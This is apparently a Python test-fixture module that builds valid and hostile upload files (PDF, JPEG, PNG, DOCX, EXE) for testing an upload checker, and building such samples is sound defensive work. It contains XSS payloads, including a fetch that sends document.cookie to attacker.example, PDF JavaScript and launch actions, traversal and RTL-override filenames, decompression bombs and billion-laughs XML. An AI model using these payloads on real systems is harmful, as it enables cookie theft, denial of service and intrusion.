"""Builders for valid and hostile uploads, shared by every test that sends files.

Each builder returns the file's bytes; `write` puts them on disk. Import as
`tests.unit.filecheck.corpus`.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import io
import os
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
EXE_HEADER = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8"
    + b"\x00" * 43
    + b"\x80\x00\x00\x00"
    + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 64
    + b"PE\x00\x00"
)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

PATH_TRAVERSAL_NAME = "../../../etc/cron.d/evil.pdf"
WINDOWS_TRAVERSAL_NAME = "..\\..\\Windows\\System32\\license.pdf"
RTL_OVERRIDE_NAME = "license\u202efdp.exe"  # displays as "licenseexe.pdf"
LONG_NAME = "a" * 300 + ".pdf"

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "{extra}</Types>"
)
_PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
_DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Curriculum vitae</w:t></w:r></w:p></w:body></w:document>"
)
_DOCUMENT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{relationships}</Relationships>"
)


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def sha256_hex(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# --- PDF ---------------------------------------------------------------------------


def _save(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def _one_page_pdf(pad_to: int = 0) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(612, 792))
    page = pdf.pages[0]
    page.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (Medical license) Tj ET")
    page.Resources = Dictionary(
        Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    )
    if pad_to > 0:
        # A scanned page: an uncompressed image of random pixels sized to reach pad_to.
        side = max(1, int((pad_to / 3) ** 0.5))
        image = pdf.make_stream(os.urandom(side * side * 3))
        image.Type = Name.XObject
        image.Subtype = Name.Image
        image.Width = side
        image.Height = side
        image.ColorSpace = Name.DeviceRGB
        image.BitsPerComponent = 8
        page.Resources.XObject = Dictionary(Im1=image)
        page.Contents = pdf.make_stream(b"q 612 0 0 792 0 0 cm /Im1 Do Q")
    return pdf


def valid_pdf(pad_to: int = 0) -> bytes:
    """A one-page PDF; `pad_to` bytes of scanned-image data make it about that large."""
    return _save(_one_page_pdf(pad_to), compress_streams=False)


def valid_linearized_pdf() -> bytes:
    """Linearized ("fast web view"): two cross-reference sections and two %%EOF."""
    return _save(_one_page_pdf(), linearize=True)


def valid_pdf_from_pillow() -> bytes:
    """Written by another producer than qpdf: a scanned page as Pillow saves it."""
    out = io.BytesIO()
    Image.new("RGB", (850, 1100), (250, 250, 245)).save(out, "PDF", resolution=100.0)
    return out.getvalue()


def pdf_carrying(payload: bytes) -> bytes:
    """A valid PDF whose page content holds `payload` as a comment, uncompressed."""
    pdf = _one_page_pdf()
    page = pdf.pages[0]
    comment = pdf.make_stream(b"% " + payload.replace(b"\n", b" ") + b"\n")
    page.Contents = Array([page.Contents, comment])
    return _save(pdf, compress_streams=False)


def pdf_without_pages() -> bytes:
    return _save(pikepdf.new())


def pdf_header_then_garbage() -> bytes:
    return b"%PDF-1.7\n" + os.urandom(2048) + b"\n%%EOF\n"


def truncated_pdf() -> bytes:
    data = valid_pdf()
    return data[: len(data) * 2 // 3]


def encrypted_pdf(user_password: str = "") -> bytes:
    """Encrypted with an owner password; readers open it without asking when the user
    password is empty, which is exactly why it must still be refused."""
    encryption = pikepdf.Encryption(owner="owner-secret", user=user_password)
    return _save(_one_page_pdf(), encryption=encryption)


def pdf_with_javascript_in_object_stream() -> bytes:
    pdf = _one_page_pdf()
    action = pdf.make_indirect(
        Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert('hi')"))
    )
    pdf.Root.OpenAction = action
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_launch_annotation() -> bytes:
    pdf = _one_page_pdf()
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 100, 100]),
        A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(link)])
    return _save(pdf)


def pdf_with_page_additional_action() -> bytes:
    pdf = _one_page_pdf()
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://example.com")))
    return _save(pdf)


def pdf_with_embedded_file() -> bytes:
    pdf = _one_page_pdf()
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, EXE_HEADER)
    return _save(pdf)


def pdf_with_xfa_form() -> bytes:
    pdf = _one_page_pdf()
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
    return _save(pdf)


def pdf_with_javascript_name_tree() -> bytes:
    pdf = _one_page_pdf()
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("this.print()")))
    names = Dictionary(Names=Array([String("init"), script]))
    pdf.Root.Names = Dictionary(JavaScript=pdf.make_indirect(names))
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_zip_appended() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("payload.html", HTML_PAGE)
    return valid_pdf() + archive.getvalue()


def _zip_with_html() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("payload.html", HTML_PAGE)
    return archive.getvalue()


def pdf_then_zip_then_eof() -> bytes:
    """A PDF, a ZIP, and another %%EOF: the file still "ends like a PDF"."""
    return valid_pdf() + _zip_with_html() + b"\n%%EOF\n"


def pdf_then_html_then_eof() -> bytes:
    return valid_pdf() + HTML_PAGE + b"%%EOF\n"


def pdf_with_zip_between_objects() -> bytes:
    """A ZIP placed between the last object and the cross-reference table, with the
    startxref pointer moved so that every reader still finds the table."""
    data = valid_pdf()
    table = data.rindex(b"\nxref\n") + 1
    payload = _zip_with_html() + b"\n"
    pointer = data.rindex(b"startxref")
    old = int(data[pointer + len(b"startxref") :].split()[0])
    tail = data[table:pointer] + f"startxref\n{old + len(payload)}\n%%EOF\n".encode()
    return data[:table] + payload + tail


def pdf_with_object_after_last_xref() -> bytes:
    """An object carrying HTML after the last cross-reference section, then a second
    pointer to the same, old section: nothing references the object."""
    data = valid_pdf()
    pointer = data.rindex(b"startxref")
    old = int(data[pointer + len(b"startxref") :].split()[0])
    extra = (
        f"99 0 obj\n<< /Length {len(HTML_PAGE)} >>\nstream\n".encode()
        + HTML_PAGE
        + b"\nendstream\nendobj\n"
    )
    return data + extra + f"startxref\n{old}\n%%EOF\n".encode()


def pdf_with_zip_in_a_comment() -> bytes:
    """A ZIP tucked into one long comment line just before the trailer section."""
    data = valid_pdf()
    table = data.rindex(b"\nxref\n") + 1
    payload = b"%" + _zip_with_html().replace(b"\r", b" ").replace(b"\n", b" ") + b"\n"
    pointer = data.rindex(b"startxref")
    old = int(data[pointer + len(b"startxref") :].split()[0])
    tail = data[table:pointer] + f"startxref\n{old + len(payload)}\n%%EOF\n".encode()
    return data[:table] + payload + tail


def _pdf_with_image_stream(data: bytes, **entries: object) -> bytes:
    pdf = _one_page_pdf()
    image = pdf.make_stream(data)
    image.Type = Name.XObject
    image.Subtype = Name.Image
    image.BitsPerComponent = 1 if entries.get("Filter") == Name.JBIG2Decode else 8
    image.ColorSpace = Name.DeviceGray
    for key, value in entries.items():
        image[f"/{key}"] = value
    pdf.pages[0].Resources.XObject = Dictionary(Im1=image)
    pdf.pages[0].Contents = pdf.make_stream(b"q 612 0 0 792 0 0 cm /Im1 Do Q")
    return _save(pdf, compress_streams=False)


def _jbig2_segment(number: int, kind: int, body: bytes) -> bytes:
    # Segment number, flags (type; one-byte page association), no referred segments,
    # page 1, data length, data.
    return struct.pack(">IBBBI", number, kind, 0, 1, len(body)) + body


def jbig2_page(width: int, height: int) -> bytes:
    """Embedded JBIG2 data: a page information segment declaring width x height, an
    immediate generic region of the same size with a few bytes of MMR data, end of
    page. A decoder allocates the whole page before reading the region."""
    page_info = struct.pack(">IIIIBH", width, height, 0, 0, 0, 0)
    region = struct.pack(">IIIIB", width, height, 0, 0, 0) + b"\x01" + b"\x00" * 8
    return (
        _jbig2_segment(0, 48, page_info)
        + _jbig2_segment(1, 38, region)
        + _jbig2_segment(2, 49, b"")
    )


def pdf_with_jbig2_bomb() -> bytes:
    """The image dictionary says 100 x 100, the JBIG2 page inside says 200,000 x
    200,000 pixels: 5 GB for one bit per pixel."""
    return _pdf_with_image_stream(
        jbig2_page(200_000, 200_000), Filter=Name.JBIG2Decode, Width=100, Height=100
    )


def pdf_with_jbig2_image(width: int = 1700, height: int = 2200) -> bytes:
    return _pdf_with_image_stream(
        jbig2_page(width, height), Filter=Name.JBIG2Decode, Width=width, Height=height
    )


def pdf_with_huge_image_dimensions() -> bytes:
    """A DCT image declaring 100,000 x 100,000 pixels in its dictionary."""
    return _pdf_with_image_stream(
        valid_jpeg(8, 8), Filter=Name.DCTDecode, Width=100_000, Height=100_000
    )


@functools.cache
def _zeros_deflated(total: int) -> bytes:
    """A valid zlib stream of `total` zero bytes, made quickly: after a full flush every
    identical block compresses to identical bytes, so one is repeated and the
    checksum is computed for the whole."""
    block = b"\x00" * (1024 * 1024)
    compressor = zlib.compressobj(9)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush(zlib.Z_FINISH)[:-4]
    checksum = 1
    for _ in range(total // len(block)):
        checksum = zlib.adler32(block, checksum)
    blocks = total // len(block)
    return first + repeated * (blocks - 1) + end + checksum.to_bytes(4, "big")


def pdf_with_flate_bomb(decoded_bytes: int = 300 * 1024 * 1024) -> bytes:
    """A page-content stream of a few hundred kilobytes that inflates to 300 MB."""
    pdf = _one_page_pdf()
    bomb = pdf.make_stream(b"")
    bomb.write(_zeros_deflated(decoded_bytes), filter=Name.FlateDecode)
    pdf.pages[0].Contents = Array([pdf.pages[0].Contents, bomb])
    return _save(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def pdf_with_ascii85_flate_bomb(decoded_bytes: int = 300 * 1024 * 1024) -> bytes:
    """The same bomb behind a second filter: ASCII85, then Flate."""
    pdf = _one_page_pdf()
    encoded = base64.a85encode(_zeros_deflated(decoded_bytes)) + b"~>"
    bomb = pdf.make_stream(b"")
    bomb.write(encoded, filter=Array([Name.ASCII85Decode, Name.FlateDecode]))
    pdf.pages[0].Contents = Array([pdf.pages[0].Contents, bomb])
    return _save(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def pdf_with_run_length_bomb(decoded_bytes: int = 300 * 1024 * 1024) -> bytes:
    """RunLength: two bytes repeat one byte 128 times."""
    pdf = _one_page_pdf()
    bomb = pdf.make_stream(b"")
    bomb.write(b"\x81\x00" * (decoded_bytes // 128) + b"\x80", filter=Name.RunLengthDecode)
    pdf.pages[0].Contents = Array([pdf.pages[0].Contents, bomb])
    return _save(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def lzw_encode(data: bytes) -> bytes:
    """LZW as PDF writes it: MSB-first codes of 9 to 12 bits, EarlyChange 1, a clear
    code first and whenever the table is full, an end-of-data code last."""
    table = {bytes([index]): index for index in range(256)}
    next_code, width = 258, 9
    codes: list[tuple[int, int]] = [(256, 9)]
    current = b""
    for value in data:
        candidate = current + bytes([value])
        if candidate in table:
            current = candidate
            continue
        codes.append((table[current], width))
        table[candidate] = next_code
        next_code += 1
        if next_code + 1 >= 4096:
            codes.append((256, width))
            table = {bytes([index]): index for index in range(256)}
            next_code, width = 258, 9
        elif next_code + 1 > (1 << width):
            width += 1
        current = bytes([value])
    if current:
        codes.append((table[current], width))
        if next_code + 2 > (1 << width) and width < 12:
            width += 1
    codes.append((257, width))
    bits = 0
    count = 0
    out = bytearray()
    for code, size in codes:
        bits = (bits << size) | code
        count += size
        while count >= 8:
            count -= 8
            out.append((bits >> count) & 0xFF)
    if count:
        out.append((bits << (8 - count)) & 0xFF)
    return bytes(out)


def pdf_with_lzw_content(data: bytes) -> bytes:
    pdf = _one_page_pdf()
    stream = pdf.make_stream(b"")
    stream.write(lzw_encode(data), filter=Name.LZWDecode)
    pdf.pages[0].Contents = Array([pdf.pages[0].Contents, stream])
    return _save(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def pdf_with_inert_open_action() -> bytes:
    """Open at page 1, fit width: navigation only."""
    pdf = _one_page_pdf()
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.FitH, 792])
    return _save(pdf)


def pdf_with_navigation_actions() -> bytes:
    pdf = _one_page_pdf()
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoTo,
        D=Array([pdf.pages[0].obj, Name.Fit]),
        Next=Dictionary(S=Name.Named, N=Name.FirstPage),
    )
    pdf.pages[0].AA = Dictionary(C=Dictionary(S=Name.Named, N=Name.NextPage))
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 100, 100]),
        A=Dictionary(S=Name.URI, URI=String("https://board.example/verify")),
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(link)])
    return _save(pdf)


def pdf_with_page_lacking_resources() -> bytes:
    pdf = _one_page_pdf()
    blank = pdf.add_blank_page(page_size=(612, 792))
    del blank.obj.Resources
    return _save(pdf)


def pdf_opening_a_uri() -> bytes:
    pdf = _one_page_pdf()
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://attacker.example/"))
    return _save(pdf)


def pdf_navigating_then_running_javascript() -> bytes:
    """A GoTo on open whose /Next runs a script."""
    pdf = _one_page_pdf()
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=script
    )
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_submitting_a_form_on_close() -> bytes:
    pdf = _one_page_pdf()
    pdf.Root.AA = Dictionary(
        WC=Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/collect"))
    )
    return _save(pdf)


def pdf_with_xref_damage() -> bytes:
    """Cross-reference offsets that point at the wrong bytes: qpdf rebuilds the table
    from a scan of the file, which is structural damage."""
    data = bytearray(valid_pdf())
    table = data.rindex(b"\nxref\n") + 1
    entry = data.index(b" 00000 n", table) - 10
    data[entry : entry + 10] = b"%010d" % 3
    return bytes(data)


def pdf_with_leading_html() -> bytes:
    return HTML_PAGE + valid_pdf()


def pdf_with_leading_bytes() -> bytes:
    """Still sniffed as PDF (libmagic looks a little past the start) and read by qpdf
    without a warning, yet other programs see whatever the prefix is."""
    return b"JUNK\n" + valid_pdf()


# --- images ------------------------------------------------------------------------


def valid_jpeg(width: int = 64, height: int = 48) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(out, "JPEG", quality=85)
    return out.getvalue()


def valid_png(width: int = 64, height: int = 48) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (30, 30, 200)).save(out, "PNG")
    return out.getvalue()


def jpeg_followed_by_html() -> bytes:
    return valid_jpeg() + HTML_PAGE


def png_followed_by_html() -> bytes:
    return valid_png() + HTML_PAGE


def truncated_jpeg() -> bytes:
    data = valid_jpeg(256, 256)
    return data[: len(data) // 2]


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    crc = zlib.crc32(kind + body) & 0xFFFFFFFF
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)


def _jpeg_with_segment(marker: int, payload: bytes) -> bytes:
    data = valid_jpeg()
    segment = bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload
    return data[:2] + segment + data[2:]


def jpeg_with_script_comment() -> bytes:
    return _jpeg_with_segment(0xFE, b"<script>alert(document.domain)</script>")


def jpeg_with_markup_comment() -> bytes:
    return _jpeg_with_segment(0xFE, b"<xss onfocus=alert(1) autofocus tabindex=1>")


def jpeg_with_script_in_exif() -> bytes:
    """Exif ImageDescription carrying an <img onerror> handler, in an APP1 segment."""
    text = b'<img src=x onerror="fetch(`//attacker.example/`+document.cookie)">\x00'
    ifd = struct.pack("<HHHII", 1, 0x010E, 2, len(text), 26) + struct.pack("<I", 0)
    tiff = b"II*\x00" + struct.pack("<I", 8) + ifd + text
    return _jpeg_with_segment(0xE1, b"Exif\x00\x00" + tiff)


def jpeg_with_script_in_xmp() -> bytes:
    xmp = (
        b"http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta xmlns:x='adobe:ns:meta/'>"
        b"<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>"
        b"<rdf:Description dc:title='&lt;b&gt;' xmlns:dc='http://purl.org/dc/elements/1.1/'>"
        b"<dc:source>javascript:alert(1)</dc:source></rdf:Description></rdf:RDF></x:xmpmeta>"
    )
    return _jpeg_with_segment(0xE1, xmp)


def jpeg_with_ordinary_metadata() -> bytes:
    """A camera's Exif, an XMP packet and a plain comment: nothing executable."""
    xmp = (
        b"http://ns.adobe.com/xap/1.0/\x00<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?>"
        b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF "
        b"xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><rdf:Description "
        b"xmlns:xmp='http://ns.adobe.com/xap/1.0/' xmp:CreatorTool='Scanner 2.1'/>"
        b"</rdf:RDF></x:xmpmeta><?xpacket end='w'?>"
    )
    text = b"Scan of board certificate, 300 dpi\x00"
    ifd = struct.pack("<HHHII", 1, 0x010E, 2, len(text), 26) + struct.pack("<I", 0)
    exif = b"Exif\x00\x00II*\x00" + struct.pack("<I", 8) + ifd + text
    data = _jpeg_with_segment(0xFE, b"Scanned 2024-01-02; A < B & C > D")
    with_xmp = data[:2] + bytes([0xFF, 0xE1]) + struct.pack(">H", len(xmp) + 2) + xmp
    with_exif = bytes([0xFF, 0xE1]) + struct.pack(">H", len(exif) + 2) + exif
    return with_xmp + with_exif + data[2:]


def _png_with_chunk(kind: bytes, body: bytes) -> bytes:
    data = valid_png()
    end_of_header = 8 + 12 + 13
    return data[:end_of_header] + _png_chunk(kind, body) + data[end_of_header:]


def png_with_script_text() -> bytes:
    return _png_with_chunk(b"tEXt", b"Comment\x00<script src=//attacker.example/x.js></script>")


def png_with_script_ztxt() -> bytes:
    body = zlib.compress(b"<html><body onload=alert(1)>")
    return _png_with_chunk(b"zTXt", b"Description\x00\x00" + body)


def png_with_script_itxt() -> bytes:
    text = zlib.compress("<svg/onload=alert('\u00e9')>".encode())
    return _png_with_chunk(b"iTXt", b"Comment\x00\x01\x00en\x00Kommentar\x00" + text)


def png_with_ordinary_text() -> bytes:
    return _png_with_chunk(b"tEXt", b"Software\x00Scanner 2.1 (x86_64)")


def png_decompression_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """Declares width x height pixels (10 gigapixels by default) in a file of a few
    hundred bytes: decoding it would need tens of gigabytes of memory."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    compressor = zlib.compressobj(9)
    pixels = compressor.compress(b"\x00" * 65536) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", pixels)
        + _png_chunk(b"IEND", b"")
    )


# --- DOCX --------------------------------------------------------------------------


def _docx(
    *,
    extra_parts: dict[str, bytes] | None = None,
    content_type_overrides: str = "",
    document_relationships: str = "",
    document: str = _DOCUMENT,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES.format(extra=content_type_overrides))
        archive.writestr("_rels/.rels", _PACKAGE_RELS)
        archive.writestr("word/document.xml", document)
        if document_relationships:
            archive.writestr(
                "word/_rels/document.xml.rels",
                _DOCUMENT_RELS.format(relationships=document_relationships),
            )
        for name, data in (extra_parts or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def valid_docx() -> bytes:
    return _docx()


def docx_zip_bomb(uncompressed_bytes: int = 8 * 1024 * 1024) -> bytes:
    """One highly compressible entry: a few kilobytes that inflate to megabytes."""
    return _docx(extra_parts={"word/media/padding.bin": b"\x00" * uncompressed_bytes})


def docx_with_lying_sizes() -> bytes:
    """A zip bomb whose central directory declares its big entry as 1,000 bytes."""
    data = bytearray(docx_zip_bomb())
    name = b"word/media/padding.bin"
    entry = -1
    position = 0
    while (position := data.find(b"PK\x01\x02", position)) >= 0:
        name_length = int.from_bytes(data[position + 28 : position + 30], "little")
        if data[position + 46 : position + 46 + name_length] == name:
            entry = position
            break
        position += 4
    assert entry >= 0
    data[entry + 24 : entry + 28] = (1000).to_bytes(4, "little")
    return bytes(data)


def docx_with_too_many_entries(count: int = 1200) -> bytes:
    return _docx(extra_parts={f"word/parts/p{index}.txt": b"x" for index in range(count)})


def docx_with_macro() -> bytes:
    override = (
        '<Override PartName="/word/vbaProject.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/>'
    )
    return _docx(
        extra_parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504},
        content_type_overrides=override,
    )


_OLE_MACRO_PROJECT = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
_VBA_RELATIONSHIP = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def docx_with_renamed_macro() -> bytes:
    """A macro project stored as "word/media/image1.png", declared as a PNG, reached
    through a relationship of an ordinary type: only its bytes say what it is."""
    relationship = (
        '<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/image" Target="media/image1.png"/>'
    )
    return _docx(
        extra_parts={"word/media/image1.png": _OLE_MACRO_PROJECT},
        content_type_overrides='<Default Extension="png" ContentType="image/png"/>',
        document_relationships=relationship,
    )


def docx_with_macro_relationship_to_plain_name() -> bytes:
    """A vbaProject relationship whose target has an innocent name and XML-looking
    content type: the relationship type gives it away."""
    relationship = f'<Relationship Id="rId8" Type="{_VBA_RELATIONSHIP}" Target="styles2.xml"/>'
    return _docx(
        extra_parts={"word/styles2.xml": b"<a/>"},
        document_relationships=relationship,
    )


def docx_with_activex_control() -> bytes:
    relationship = (
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/control" Target="activeX/part1.xml"/>'
    )
    return _docx(
        extra_parts={"word/activeX/part1.xml": b"<ax:ocx xmlns:ax='urn:x'/>"},
        document_relationships=relationship,
    )


def docx_with_ole_object() -> bytes:
    relationship = (
        '<Relationship Id="rId10" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/oleObject" Target="embeddings/sheet.xml"/>'
    )
    return _docx(
        extra_parts={"word/embeddings/sheet.xml": b"<a/>"},
        document_relationships=relationship,
    )


def docx_with_macro_enabled_content_type() -> bytes:
    """A .docm renamed .docx: no vbaProject part listed, but a macro-enabled type."""
    override = (
        '<Override PartName="/word/settings.xml" '
        'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    )
    return _docx(content_type_overrides=override)


def docx_with_external_relationship() -> bytes:
    """A remote template: Word fetches it when the document opens."""
    relationship = (
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" '
        'TargetMode="External"/>'
    )
    return _docx(document_relationships=relationship)


def docx_with_doctype() -> bytes:
    """An entity-expansion ("billion laughs") document part."""
    document = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>"
    )
    return _docx(document=document)


def docx_without_document_part() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES.format(extra=""))
        archive.writestr("notes.txt", "hello")
    return out.getvalue()


# --- other -------------------------------------------------------------------------


def exe_renamed() -> bytes:
    return EXE_HEADER + b"\x00" * 512


def html_page() -> bytes:
    return HTML_PAGE
